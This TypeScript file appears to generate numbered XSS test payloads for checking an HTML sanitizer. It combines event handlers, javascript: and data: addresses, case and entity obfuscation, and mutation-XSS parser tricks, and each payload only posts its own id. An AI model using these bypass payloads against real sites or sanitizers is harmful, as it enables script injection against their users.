import { createRandom, type Random } from "./seeded-random.ts";

/** One try to run code or to reach a server, by a number of its own. */
export interface Payload {
  readonly id: number;
  /** What kind of try, for the list of what got through. */
  readonly way: string;
  readonly markup: string;
  /** Swallows or moves what stands behind it, so it gets a page of its own. */
  readonly alone: boolean;
}

/** Code that reports its number to the uppermost page, from frames of another origin too. Holds no blank and no " or '. */
export function runCode(id: number): string {
  return `top.postMessage(${id},\`*\`)`;
}

const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";

/** Events that come by themselves or by a finger, a key, a clipboard, a printer. */
const EVENTS = [
  ..."click dblclick mousedown mouseup mouseover mouseenter mousemove mouseout wheel contextmenu auxclick".split(
    " ",
  ),
  ..."pointerdown pointerover pointerenter pointermove pointerrawupdate touchstart touchend".split(" "),
  ..."keydown keyup keypress input beforeinput change invalid submit reset select focus focusin blur".split(
    " ",
  ),
  ..."copy cut paste drag dragstart dragover drop scroll scrollend toggle beforetoggle beforematch".split(
    " ",
  ),
  ..."load error abort animationstart animationend transitionrun transitionend securitypolicyviolation".split(
    " ",
  ),
];

/** Elements a page may hang them on; each once with every event would be 1,100, so a seeded choice is taken. */
const ELEMENTS: readonly ((attributes: string) => string)[] = [
  (on) => `<p ${on}>x</p>`,
  (on) => `<div ${on} tabindex=1>x</div>`,
  (on) => `<a href=# ${on}>x</a>`,
  (on) => `<img src=x ${on}>`,
  (on) => `<img src="${PIXEL}" ${on}>`,
  (on) => `<svg ${on}><circle r=9></circle></svg>`,
  (on) => `<svg><a ${on}><text>x</text></a></svg>`,
  (on) => `<svg><g ${on}></g></svg>`,
  (on) => `<math><mi ${on}>x</mi></math>`,
  (on) => `<input autofocus ${on}>`,
  (on) => `<textarea autofocus ${on}></textarea>`,
  (on) => `<button ${on}>x</button>`,
  (on) => `<select ${on}><option>x</select>`,
  (on) => `<form ${on}><input required></form>`,
  (on) => `<video controls src=x ${on}></video>`,
  (on) => `<audio src=x ${on}></audio>`,
  (on) => `<video><source src=x ${on}></video>`,
  (on) => `<details open ${on}>x</details>`,
  (on) => `<dialog open ${on}>x</dialog>`,
  (on) => `<table ${on}><tr><td>x</table>`,
  (on) => `<marquee ${on}>x</marquee>`,
  (on) => `<x-element ${on}>x</x-element>`,
  (on) => `<blink ${on}>x</blink>`,
  (on) => `<style ${on}>p{}</style>`,
  (on) => `<link rel=stylesheet href="data:text/css,p{}" ${on}>`,
  (on) => `<iframe src="about:blank" ${on}></iframe>`,
  (on) => `<object data=x ${on}></object>`,
  (on) => `<embed src=x ${on}>`,
  (on) => `<track src=x ${on}>`,
  (on) => `<span style="animation:k 1s;transition:color 1s" ${on}>x</span>`,
];

/** How an attribute's name, its marks and its code may be written so that a list of bad words misses them. */
const SPELLINGS: readonly ((event: string, code: string) => string)[] = [
  (event, code) => `on${event}="${code}"`,
  (event, code) => `on${event}='${code}'`,
  (event, code) => `on${event}=${code}`,
  (event, code) => `oN${event.toUpperCase()}="${code}"`,
  (event, code) => `on${event}\n=\n"${code}"`,
  (event, code) => `/on${event}/=x on${event}="${code}"`,
  (event, code) => `on${event}="${entities(code)}"`,
  (event, code) => `title="a>b" on${event}="/*>*/${code}"`,
  (event, code) => `on${event}="void\`\`;${code}//"`,
];

/** Elements that follow an address. */
const PLACES: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}" autofocus>x</a>`,
  (to) => `<a href="${to}" target=_blank>x</a>`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<svg><a><animate attributeName=href values="${to}"></animate><text>x</text></a></svg>`,
  (to) => `<math><maction actiontype="statusline#x" xlink:href="${to}">x</maction></math>`,
  (to) => `<map name=m><area shape=default href="${to}"></map>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<form><button formaction="${to}">x</button></form>`,
  (to) => `<input type=image formaction="${to}" src="${PIXEL}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<img src="${to}" srcset="${to} 2x">`,
  (to) => `<script src="${to}"></script>`,
  (to) => `<link rel=stylesheet href="${to}">`,
  (to) => `<div style="background:url('${to}')">x</div>`,
];

/** How an address with a program in it may be written. */
const ADDRESSES: readonly ((code: string) => string)[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` \u0001javascript:${code}`,
  (code) => `java&Tab;script:${code}`,
  (code) => `java&NewLine;script&colon;${code}`,
  (code) => entities(`javascript:${code}`),
  (code) => `javascript://x/%0A${code}`,
  (code) => `data:text/html,<script>${code}</script>`.replaceAll("<", "&lt;"),
  (code) => `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")}`,
  (code) => `data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22${code}%22/>`,
  (code) => `data:text/javascript,${code}`,
  (code) => `vbscript:${code}`,
];

/** What only becomes code when it is read a second time, or where a reader's grammar and a browser's differ. */
const MUTATIONS: readonly ((code: string) => string)[] = [
  (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${code}'>"></style></h1>`,
  (code) => `<svg><desc><noscript><p id="</noscript><img src=x onerror=${code}>"></noscript></desc></svg>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  (code) => `<noembed><p title="</noembed><img src=x onerror=${code}>"></noembed>`,
  (code) => `<noframes><p title="</noframes><img src=x onerror=${code}>"></noframes>`,
  (code) => `<iframe><p title="</iframe><img src=x onerror=${code}>"></iframe>`,
  (code) => `<svg><title><style><p title="</style></title><img src=x onerror=${code}>"></svg>`,
  (code) =>
    `<svg><foreignObject><math><mi><style><!--</style><img src=x onerror=${code}>--></style></mi></math></foreignObject></svg>`,
  (code) => `<svg><foreignObject><body onload="${code}"></foreignObject></svg>`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${code}"></annotation-xml></math>`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${code}"></style></annotation-xml></math>`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
  (code) => `<table><caption><svg><style></caption><img src=x onerror=${code}></style></svg></table>`,
  (code) => `<table><tr><td><style></td></tr></table><img src=x onerror=${code}></style>`,
  (code) => `<select><template><style><!--</style><img src=x onerror=${code}>--></template></select>`,
  (code) => `<p title='"><img src=x onerror=${code}>'>x</p>`,
  (code) => `<p title="&quot;&gt;&lt;img src=x onerror=${code}&gt;">x</p>`,
  (code) => `<p title="&amp;lt;script>${code}&amp;lt;/script>">x</p>`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;&lt;img src=x onerror=${code}&gt;`,
  (code) => `<![CDATA[<img src=x onerror=${code}>]]>`,
  (code) => `<svg><![CDATA[</svg><img src=x onerror=${code}>]]></svg>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!--!> <img src=x onerror=${code}> --!>`,
  (code) => `<!-- --!><img src=x onerror=${code}>`,
  (code) => `<!--[if gte IE 4]><script>${code}</script><![endif]-->`,
  (code) => `<?xml-stylesheet type="text/xsl" href="javascript:${code}"?><img src=x onerror=${code}>`,
  (code) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${code}>">]>&y;`,
  (code) => `</p x="><img src=x onerror=${code}>">`,
  (code) => `<a/href="x"onclick=${code}//>x</a>`,
  (code) => `<img """><script>${code}</script>">`,
  (code) => `<img src="x\u0000" onerror="${code}">`,
  (code) => `<scr\u0000ipt>${code}</scr\u0000ipt><scr<script>ipt>${code}</scr</script>ipt>`,
  (code) =>
    `<form id=f><input name=attributes><input name=children><input name=nodeName></form><img form=f src=x onerror=${code}>`,
  (code) => `<a id=defaultView><a id=defaultView name=cleaner href="javascript:${code}">x</a>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='1' onerror='${code}'/%3E%3C/svg%3E#x"/></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  (code) => `<svg><set onbegin="${code}" attributeName=x to=1></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${code}"/></svg>`,
  (code) => `<svg><style>*{--x:</style><img src=x onerror="${code}">`,
];

/** Elements that hold programs. */
const HOLDERS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT TYPE="text/JavaScript">${code}</SCRIPT>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script async defer src="data:text/javascript,${code}"></script>`,
  (code) =>
    `<script type=importmap>{"imports":{"m":"data:text/javascript,${code}"}}</script><script type=module>import("m")</script>`,
  (code) => `<script>setTimeout(()=>{${code}},1)</script>`,
  (code) => `<script>new Function("${code}")()</script>`,
  (code) => `<script nonce="">${code}</script>`,
  (code) => `<script><!--\n${code}\n//--></script>`,
  (code) => `<script>document.write("<img src=x onerror=${code}>")</script>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc="&lt;img src=x onerror=${code}&gt;"></iframe>`,
  (code) => `<iframe srcdoc="<script>${code}</script>" sandbox="allow-scripts allow-same-origin"></iframe>`,
  (code) => `<iframe src="javascript:'<script>${code}</script>'"></iframe>`,
  (code) => `<object type="text/html" data="data:text/html,<script>${code}</script>"></object>`,
  (code) =>
    `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>">`,
  (code) => `<object><param name=src value="javascript:${code}"></object>`,
  (code) => `<base href="javascript:/x/-${code}//"><a href="#">x</a>`,
  (code) => `<base href="data:text/html,<script>${code}</script>"><iframe src="."></iframe>`,
  (code) =>
    `<style>p{behavior:url(x.htc);-moz-binding:url("javascript:${code}");width:expression(${code})}</style>`,
  (code) => `<style>@import "javascript:${code}";</style>`,
  (code) =>
    `<style>@keyframes k{from{color:red}}b{animation:k 1s}</style><b onanimationstart="${code}">x</b>`,
  (code) => `<div popover id=q onbeforetoggle="${code}">x</div><button popovertarget=q>x</button>`,
  (code) =>
    `<meta http-equiv="Set-Cookie" content="a=1"><meta http-equiv=refresh content="1;javascript:${code}">`,
  (code) => `<link rel=import href="data:text/html,<script>${code}</script>">`,
  (code) =>
    `<xml id=i><x><c><![CDATA[<img src=x onerror=${code}>]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>`,
  (code) => `<applet code="javascript:${code}"></applet>`,
  (code) => `<bgsound src="javascript:${code}"><layer src="javascript:${code}"></layer>`,
  (code) => `<isindex type=image src=1 onerror=${code}>`,
  (code) => `<div onclick="${code}" role=button tabindex=0 accesskey=x autofocus>x</div>`,
  (code) => `<p style="xss:expression(${code})">x</p>`,
  (code) => `<video><track kind=captions default src="data:text/vtt,WEBVTT" onload="${code}"></video>`,
];

/** Elements that leave the page open behind them. */
const SWALLOWERS: readonly ((code: string) => string)[] = [
  (code) => `<plaintext><img src=x onerror=${code}>`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  (code) => `<title><p title="</title><img src=x onerror=${code}>">`,
  (code) => `<textarea><p title="</textarea><img src=x onerror=${code}>">`,
  (code) => `<select><style></select><img src=x onerror=${code}></style>`,
  (code) => `<body onload="${code}"><p>x`,
  (code) => `<body onpageshow="${code}"><p>x`,
  (code) => `<body onhashchange="${code}" onmessage="${code}"><p>x`,
  (code) => `<frameset onload="${code}"><frame src="javascript:${code}"></frameset>`,
  (code) => `<html onmouseover="${code}"><p>x`,
  (code) => `<svg><style><img src=x onerror="${code}">`,
  (code) => `<!-- <img src=x> --><script>${code}`,
  (code) => `<a href="javascript:${code}`,
  (code) => `<img src=x onerror="${code}" alt="`,
];

/**
 * Script payloads numbered from `first`: every way of the lists above once, and a seeded choice of events on elements
 * and of programs in addresses. The same for the same seed.
 */
export function scriptPayloads(first: number, seed = 20261122): Payload[] {
  const random = createRandom(seed);
  const made: Payload[] = [];
  const add = (way: string, markup: (code: string) => string, alone = false): void => {
    const id = first + made.length;
    made.push({ id, way, markup: markup(runCode(id)), alone });
  };
  for (const event of EVENTS)
    for (const element of choose(random, ELEMENTS, 3)) {
      const spelling = random.pick(SPELLINGS);
      add(`on${event}`, (code) => element(spelling(event, code)));
    }
  for (const place of PLACES)
    for (const address of choose(random, ADDRESSES, 6)) add("address", (code) => place(address(code)));
  for (const mutation of MUTATIONS) add("mutation", mutation);
  for (const holder of HOLDERS) add("holder", holder);
  for (const swallower of SWALLOWERS) add("swallower", swallower, true);
  return made;
}

function choose<Item>(random: Random, items: readonly Item[], count: number): Item[] {
  const left = [...items];
  const chosen: Item[] = [];
  while (chosen.length < count && left.length > 0) chosen.push(...left.splice(random.below(left.length), 1));
  return chosen;
}

function entities(words: string): string {
  return [...words].map((letter) => `&#${letter.codePointAt(0) ?? 0};`).join("");
}
